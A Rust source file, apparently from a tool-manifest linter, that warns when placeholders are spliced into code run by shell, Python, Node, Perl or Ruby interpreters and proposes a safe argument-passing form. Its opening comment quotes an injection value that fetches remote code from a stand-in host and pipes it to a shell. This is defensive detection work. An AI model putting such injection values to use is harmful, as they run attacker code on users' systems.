//! The warning on a placeholder written into code: `["sh", "-c", "echo {msg}"]` runs
//! whatever the value says (`'; curl evil | sh; '`), since the shell reads the filled text as
//! code. The safe form passes the value as an argument of its own, which the code reads.

use std::path::Path;

use toolwire_process::{CommandSpec, Template};

use super::Findings;
use crate::manifest::ToolDef;

/// A language whose interpreter runs code given on its command line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Language {
    Shell,
    Python,
    Node,
    Perl,
    Ruby,
}

impl Language {
    /// The language `program` runs, by its file name.
    fn of(program: &str) -> Option<Self> {
        let name = Path::new(program).file_name()?.to_str()?;
        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        match base {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" => Some(Self::Shell),
            "python" => Some(Self::Python),
            "node" | "nodejs" => Some(Self::Node),
            "perl" => Some(Self::Perl),
            "ruby" => Some(Self::Ruby),
            _ => None,
        }
    }

    /// Whether `flag` gives the code: `-c` (and a shell's `-ec`, `-lc`...), `-e`, `--eval`.
    fn takes_code(self, flag: &str) -> bool {
        match self {
            Self::Shell => flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('c'),
            Self::Python => flag == "-c",
            Self::Node => matches!(flag, "-e" | "--eval" | "-p" | "--print"),
            Self::Perl => matches!(flag, "-e" | "-E"),
            Self::Ruby => flag == "-e",
        }
    }

    /// How the code reads argument `n` (1 for the first after the code).
    fn argument(self, n: usize) -> String {
        match self {
            Self::Shell => format!("\"${n}\""),
            Self::Python => format!("sys.argv[{n}]"),
            Self::Node => format!("process.argv[{}]", n + 1),
            Self::Perl => format!("$ARGV[{}]", n - 1),
            Self::Ruby => format!("ARGV[{}]", n - 1),
        }
    }
}

/// Warns for each code argument of `command` that mixes code with a placeholder.
pub(super) fn code_strings(tool: &ToolDef, command: &CommandSpec, findings: &mut Findings) {
    let Some(language) = Language::of(&command.program) else { return };
    for (at, flag) in command.args.iter().enumerate() {
        let Some(flag) = flag.literal_text() else { continue };
        let Some(code) = command.args.get(at + 1).filter(|_| language.takes_code(flag)) else {
            continue;
        };
        // A code runner, whose whole code the model writes, is the tool's purpose.
        if code.is_literal() || code.lone_placeholder().is_some() {
            continue;
        }
        findings.warning(format!(
            "{:?}: {} is written into the code that {:?} runs: a value can end the code and \
             run its own. Pass it as an argument of its own instead: {}",
            tool.name,
            code.placeholders().map(|name| format!("{{{name}}}")).collect::<Vec<_>>().join(", "),
            command.program,
            safe_form(language, command, at, code),
        ));
    }
}

/// The argv with the code reading its values from its own arguments.
fn safe_form(language: Language, command: &CommandSpec, at: usize, code: &Template) -> String {
    let mut names: Vec<&str> = Vec::new();
    for name in code.placeholders() {
        if !names.contains(&name) {
            names.push(name);
        }
    }
    let mut text = code.to_string();
    for (n, name) in names.iter().enumerate() {
        let reads = language.argument(n + 1);
        for quoted in [format!("'{{{name}}}'"), format!("\"{{{name}}}\""), format!("{{{name}}}")] {
            text = text.replace(&quoted, &reads);
        }
    }
    if language == Language::Python && !text.contains("import sys") {
        text = format!("import sys; {text}");
    }
    let mut argv: Vec<String> = vec![command.program.clone()];
    argv.extend(command.args[..at + 1].iter().map(Template::to_string));
    argv.push(text);
    if language == Language::Shell {
        // `$0` of the script.
        argv.push(command.program.clone());
    }
    argv.extend(names.iter().map(|name| format!("{{{name}}}")));
    let quoted: Vec<String> = argv.iter().map(|arg| format!("{arg:?}")).collect();
    format!("argv = [{}]", quoted.join(", "))
}
